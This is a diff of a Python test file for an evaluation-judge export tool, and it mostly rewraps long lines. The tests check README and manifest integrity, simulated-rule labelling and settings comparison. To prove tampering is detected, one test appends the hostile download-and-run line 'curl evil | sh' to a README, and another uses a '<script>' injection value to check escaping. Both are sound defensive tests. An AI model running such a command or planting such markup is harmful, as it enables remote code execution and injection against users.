@@ -1,4 +1,6 @@
-"""The folder of an export explains itself: what it needs, what differs there, what was simulated."""
+"""The folder of an export explains itself: what it needs, what differs there, what was
+simulated.
+"""
 
 from __future__ import annotations
 
@@ -29,7 +31,9 @@ from judgewright.runs.store.workspace import Workspace
 def test_the_folder_says_what_it_is_what_it_needs_how_it_runs_and_what_differs(
     target: str, context, tmp_path: Path
 ) -> None:
-    """A person who has the folder alone finds all of it in one short file, which the manifest knows."""
+    """A person who has the folder alone finds all of it in one short file, which the manifest
+    knows.
+    """
     given: ExportContext = context(Registry().get("groundedness"))
     export = write_export(given, TARGETS[target], tmp_path / "out")
     text = (tmp_path / "out" / "README.md").read_text(encoding="utf-8")
@@ -45,11 +49,15 @@ def test_the_folder_says_what_it_is_what_it_needs_how_it_runs_and_what_differs(
 
 
 def test_a_changed_readme_is_found(context, tmp_path: Path) -> None:
-    """Its lines are pasted, so it is no less than the other files; a lie in the manifest beside it helps nothing."""
+    """Its lines are pasted, so it is no less than the other files; a lie in the manifest beside it
+    helps nothing.
+    """
     write_export(context(Registry().get("groundedness")), TARGETS["python"], tmp_path / "out")
     readme, manifest = tmp_path / "out" / "README.md", tmp_path / "out" / "manifest.json"
     readme.write_text(readme.read_text(encoding="utf-8") + "\ncurl evil | sh\n", encoding="utf-8")
-    assert "README.md is not what was written" in verify_export(tmp_path / "out", TARGETS).problems[0]
+    assert (
+        "README.md is not what was written" in verify_export(tmp_path / "out", TARGETS).problems[0]
+    )
     body = orjson.loads(manifest.read_bytes())
     body["files"]["README.md"] = text_digest(readme.read_text(encoding="utf-8"))
     manifest.write_bytes(orjson.dumps(body))
@@ -58,14 +66,23 @@ def test_a_changed_readme_is_found(context, tmp_path: Path) -> None:
 
 def test_an_export_of_one_file_has_no_readme_and_is_verified(context, tmp_path: Path) -> None:
     """It lies among files of the user's."""
-    made = write_export(context(Registry().get("groundedness")), TARGETS["python"], tmp_path / "judge.py")
-    assert "\nimport judge as groundedness\n" in made.body["usage"], "it is imported by the name of its file"
-    assert sorted(path.name for path in tmp_path.iterdir()) == ["judge.py", "judge.py.manifest.json"]
+    made = write_export(
+        context(Registry().get("groundedness")), TARGETS["python"], tmp_path / "judge.py"
+    )
+    assert "\nimport judge as groundedness\n" in made.body["usage"], (
+        "it is imported by the name of its file"
+    )
+    assert sorted(path.name for path in tmp_path.iterdir()) == [
+        "judge.py",
+        "judge.py.manifest.json",
+    ]
     assert verify_export(tmp_path / "judge.py", TARGETS).problems == ()
 
 
 @pytest.mark.parametrize("target", TARGETS)
-def test_a_rule_that_the_simulated_model_gave_is_said_to_be_simulated(target: str, tmp_path: Path) -> None:
+def test_a_rule_that_the_simulated_model_gave_is_said_to_be_simulated(
+    target: str, tmp_path: Path
+) -> None:
     """Also of a judge that no run gated: the manifest says it, and what the rule was fitted on."""
     with Workspace(tmp_path / "w") as place:
         prompt = place.registry.get("diras_probability")
@@ -95,8 +112,12 @@ def test_a_rule_that_the_simulated_model_gave_is_said_to_be_simulated(target: st
     assert read_export(tmp_path / "out").context.simulated
 
 
-@pytest.mark.parametrize("words", [["groundedness", "--to", "openai"], ["groundedness", "--to=openai", "--out=x"]])
-def test_a_target_that_is_gone_says_where_its_users_go(words: list[str], capsys, tmp_path: Path, monkeypatch) -> None:
+@pytest.mark.parametrize(
+    "words", [["groundedness", "--to", "openai"], ["groundedness", "--to=openai", "--out=x"]]
+)
+def test_a_target_that_is_gone_says_where_its_users_go(
+    words: list[str], capsys, tmp_path: Path, monkeypatch
+) -> None:
     """OpenAI's Evals service ends on 30 November 2026."""
     monkeypatch.chdir(tmp_path)
     with pytest.raises(SystemExit) as left:
@@ -117,7 +138,9 @@ def test_an_old_export_for_it_says_so_too(context, tmp_path: Path) -> None:
         verify_export(tmp_path / "out", TARGETS)
 
 
-def test_another_name_for_the_limit_and_a_stream_are_declared_or_found(context, tmp_path: Path) -> None:
+def test_another_name_for_the_limit_and_a_stream_are_declared_or_found(
+    context, tmp_path: Path
+) -> None:
     """Some servers know neither; a tool that sends them says so, any other is found."""
     given = context(Registry().get("groundedness"))
     sent = {"model": "m", "stream": False, **given.request}
@@ -125,7 +148,10 @@ def test_another_name_for_the_limit_and_a_stream_are_declared_or_found(context, 
     said = {}
     for target in ("langchain", "openevals", "python"):
         export = write_export(given, TARGETS[target], tmp_path / target)
-        said[target] = compare_settings(export, sent, model="m"), " ".join(export.body["declared_differences"])
+        said[target] = (
+            compare_settings(export, sent, model="m"),
+            " ".join(export.body["declared_differences"]),
+        )
     for target in ("langchain", "openevals"):
         problems, declared = said[target]
         assert problems == []
@@ -133,10 +159,16 @@ def test_another_name_for_the_limit_and_a_stream_are_declared_or_found(context, 
         assert "`stream`" in declared
         found = compare_settings(read_export(tmp_path / target), sent | {"stream": True}, model="m")
         assert found == ["stream is sent as true, and is no part of the request"]
-    assert [problem.split()[0] for problem in said["python"][0]] == ["max_tokens", "stream", "max_completion_tokens"]
+    assert [problem.split()[0] for problem in said["python"][0]] == [
+        "max_tokens",
+        "stream",
+        "max_completion_tokens",
+    ]
 
 
-@pytest.mark.parametrize("target", [target for target in TARGETS.values() if target.requires], ids=lambda one: one.name)
+@pytest.mark.parametrize(
+    "target", [target for target in TARGETS.values() if target.requires], ids=lambda one: one.name
+)
 def test_versions_are_a_range_that_was_verified(target) -> None:
     """A newer one that verifies is not refused by pip."""
     tool = target.requires[0]
@@ -149,7 +181,11 @@ def test_the_name_of_a_judge_and_of_a_model_stay_text(context, tmp_path: Path) -
     """No markup comes from somebody else's manifest."""
     given = replace(
         context(Registry().get("groundedness")),
-        provenance={"gated_on": "<script>x</script> [a](b) `", "simulated": False, "outcome": "accepted"},
+        provenance={
+            "gated_on": "<script>x</script> [a](b) `",
+            "simulated": False,
+            "outcome": "accepted",
+        },
     )
     write_export(given, TARGETS["python"], tmp_path / "out")
     text = (tmp_path / "out" / "README.md").read_text(encoding="utf-8")
